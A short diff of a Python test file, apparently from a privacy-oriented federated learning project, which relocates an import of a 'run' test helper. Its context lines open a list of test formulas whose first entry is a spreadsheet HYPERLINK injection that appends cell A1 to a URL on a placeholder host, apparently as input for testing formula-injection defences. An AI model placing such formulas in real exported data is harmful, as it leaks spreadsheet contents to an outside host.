@@ -12,8 +12,8 @@ from privee.defenses import defense
 from privee.vfl.experiment import train_run
 from privee.vfl.joint_data import from_tables
 from privee.vfl.prediction import predict
+from tests._support.commands import run
 from tests._support.party_world import TINY, make_tables
-from tests.cli.test_protect import run
 
 FORMULAS = [
     '=HYPERLINK("http://x.example/?"&A1,"click")',
